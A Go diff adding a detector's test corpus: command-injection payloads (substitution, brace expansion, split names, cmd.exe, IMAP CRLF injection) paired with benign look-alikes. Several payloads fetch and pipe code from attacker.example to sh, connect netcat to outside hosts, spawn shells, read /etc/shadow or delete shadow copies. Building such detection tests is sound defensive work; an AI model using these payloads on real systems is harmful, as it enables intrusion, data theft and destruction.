@@ -1,0 +1,113 @@
+package tier1
+
+// OS command injection forms that need shell semantics to see: command,
+// process and arithmetic substitution, brace expansion, names split by
+// quotes and empty expansions, administration tools after a separator,
+// cmd.exe syntax and mail protocol commands; and the text near them that
+// is no attack.
+func init() {
+	attacks = append(attacks,
+		// A value that is one command substitution runs it.
+		attackEntry{lQ, "name", "$(reboot)", "cmdi", encAll},
+		attackEntry{lJ, "tag", "$(sh)", "cmdi", encURL},
+		// Process substitution runs the command and names its output.
+		attackEntry{lQ, "file", "<(curl -s attacker.example/x)", "cmdi", encAll},
+		attackEntry{lJ, "log", ">(nc 203.0.113.5 9001)", "cmdi", encURL},
+		// Legacy arithmetic expansion, a probe for shell evaluation.
+		attackEntry{lQ, "n", "$[7*7]", "cmdi", encAll},
+		attackEntry{lF, "n", "$[1337+1]", "cmdi", 0},
+		// Brace expansion that assembles a command and its flags.
+		attackEntry{lQ, "dir", "{l,-la}s", "cmdi", encAll},
+		attackEntry{lQ, "f", "c{a,x}t /etc/hosts", "cmdi", encAll},
+		attackEntry{lQ, "f", "{/???/c?t,} /e??/hosts", "cmdi", encAll},
+		// Names split by empty expansions, quotes and backslashes.
+		attackEntry{lQ, "q", "whoa$$mi", "cmdi", encURL},
+		attackEntry{lQ, "q", "ifcon${x}fig", "cmdi", encURL},
+		attackEntry{lJ, "q", "uname$z -a", "cmdi", encURL},
+		attackEntry{lJ, "q", `n\c$u -lvp 4444`, "cmdi", 0},
+		attackEntry{lJ, "q", `""p""e""r""l"" -v`, "cmdi", 0},
+		attackEntry{lQ, "host", "who<()ami", "cmdi", encURL},
+		attackEntry{lJ, "host", "10.0.0.8;c$@at+/et$@c/host$@s", "cmdi", 0},
+		attackEntry{lQ, "v", "a='l';cu$a\\r\\l attacker.example", "cmdi", encURL},
+		attackEntry{lQ, "q", "python3.11 -c 'import pty;pty.spawn(\"/bin/sh\")'", "cmdi", encAll},
+		attackEntry{lQ, "host", "x;python3.12 -m http.server 8000", "cmdi", encAll},
+		// Administration tools after a separator.
+		attackEntry{lQ, "host", "10.0.0.5; ansible all -i 10.0.0.5, -m shell -a id", "cmdi", encAll},
+		attackEntry{lQ, "host", "1;chef-client -z", "cmdi", encAll},
+		attackEntry{lQ, "x", "x&&visudo", "cmdi", encAll},
+		attackEntry{lJ, "key", "a.pub;ssh-copy-id root@203.0.113.8", "cmdi", encURL},
+		attackEntry{lQ, "p", "&aptitude", "cmdi", encURL},
+		attackEntry{lQ, "p", "view=1&vssadmin delete shadows /all /quiet", "cmdi", encURL},
+		attackEntry{lQ, "p", "img.png&bcdedit/set safeboot minimal", "cmdi", encURL},
+		// English words that are commands glued to a separator.
+		attackEntry{lQ, "d", ";date -f /etc/shadow", "cmdi", encAll},
+		attackEntry{lQ, "d", "1;at now -f /tmp/x.sh", "cmdi", encAll},
+		attackEntry{lJ, "d", ";trap 'curl attacker.example|sh' EXIT", "cmdi", encURL},
+		attackEntry{lQ, "d", "127.0.0.1;set", "cmdi", encAll},
+		attackEntry{lQ, "d", ";top", "cmdi", encURL},
+		attackEntry{lJ, "d", ";ex -c ':!id'", "cmdi", encURL},
+		attackEntry{lQ, "d", ";chmod +x /tmp/a", "cmdi", encURL},
+		// Shell builtins and tricks.
+		attackEntry{lQ, "q", "alias ls='rm -rf ~'", "cmdi", encAll},
+		attackEntry{lQ, "q", "alias l=n${u}c", "cmdi", encURL},
+		attackEntry{lQ, "q", "c99 -wrapper /bin/sh,-c,id .", "cmdi", encAll},
+		attackEntry{lQ, "q", "!-2!-1", "cmdi", encAll},
+		attackEntry{lQ, "q", "1;\n.dump", "cmdi", encURL},
+		attackEntry{lJ, "q", "1;\\n.load /tmp/x.so", "cmdi", 0},
+		// cmd.exe.
+		attackEntry{lQ, "q", "for /f %% in (list.txt) do del %%", "cmdi", encAll},
+		attackEntry{lQ, "q", "if/i %os%==windows_nt del x", "cmdi", encAll},
+		// IMAP commands whatever the tag.
+		attackEntry{lQ, "subject", "hi\r\nz store 1:* +FLAGS.SILENT (\\Deleted)\r\n", "mail-command-injection", encURL},
+		attackEntry{lJ, "subject", "hi\r\nq uid fetch 1:* (BODY[])\r\n", "mail-command-injection", 0},
+	)
+	benign = append(benign,
+		// Substitutions and expansions quoted in text, templates and
+		// build files.
+		corpusEntry{lJ, "body", "Use $(pwd) to get the current directory"},
+		corpusEntry{lJ, "body", "In bash, $(cmd) runs cmd and ${var} expands a variable"},
+		corpusEntry{lJ, "path", "${HOME}/.config/app.yaml"},
+		corpusEntry{lQ, "tpl", "${name}"},
+		corpusEntry{lJ, "greeting", "Hello ${user.firstName}!"},
+		corpusEntry{lJ, "cmd", "$(CC) $(CFLAGS) -o $@ $^"},
+		corpusEntry{lJ, "dir", "$(Build.SourcesDirectory)"},
+		corpusEntry{lJ, "sel", "$(this)"},
+		corpusEntry{lJ, "path", "$[0].name"},
+		corpusEntry{lJ, "field", "grades.$[]"},
+		corpusEntry{lJ, "field", "items.$[elem].qty"},
+		corpusEntry{lJ, "note", "Process substitution looks like diff <(sort a) <(sort b) in the manual"},
+		// Braces in globs, lists and field selections.
+		corpusEntry{lQ, "glob", "src/**/*.{js,ts}"},
+		corpusEntry{lQ, "fields", "fields={name,email}"},
+		corpusEntry{lQ, "re", "c{1,2}"},
+		// Words that are commands, alone or in prose.
+		corpusEntry{lQ, "q", "visudo"},
+		corpusEntry{lJ, "body", "Run visudo to edit the sudoers file"},
+		corpusEntry{lQ, "q", "id"},
+		corpusEntry{lQ, "q", "4"},
+		corpusEntry{lQ, "file", "settings.php"},
+		corpusEntry{lQ, "q", "pip install requests"},
+		corpusEntry{lQ, "q", "ls foo bar"},
+		corpusEntry{lJ, "body", "python3.10 is required"},
+		corpusEntry{lJ, "body", "set -o pipefail"},
+		corpusEntry{lJ, "body", "| apt-get | Debian |\n| dnf | Fedora |"},
+		corpusEntry{lJ, "body", "Steps: update; apt-get install -y curl"},
+		corpusEntry{lJ, "body", "Lunch;at 12:30 in the canteen"},
+		corpusEntry{lJ, "style", "position:absolute;top"},
+		corpusEntry{lJ, "body", "Ready; set; go!"},
+		corpusEntry{lJ, "body", "alias name=value defines an alias"},
+		// History, tilde and quote look-alikes.
+		corpusEntry{lQ, "q", "~+"},
+		corpusEntry{lJ, "body", "wow!!"},
+		corpusEntry{lQ, "q", "!1"},
+		corpusEntry{lJ, "body", "Ranked !-1 in the list"},
+		corpusEntry{lJ, "price", "US$100"},
+		corpusEntry{lJ, "name", "O''Brien"},
+		corpusEntry{lJ, "body", "rock'n'roll don't stop"},
+		corpusEntry{lJ, "body", "Mind your p's and q's"},
+		corpusEntry{lJ, "body", "x = a[0];\n.then(done)"},
+		corpusEntry{lJ, "body", "Line one\nI store 2 boxes (big)"},
+		corpusEntry{lJ, "body", "for %% in (a) the rate is fixed"},
+		corpusEntry{lJ, "code", "$(document).ready(function(){ $(this).hide() })"},
+	)
+}
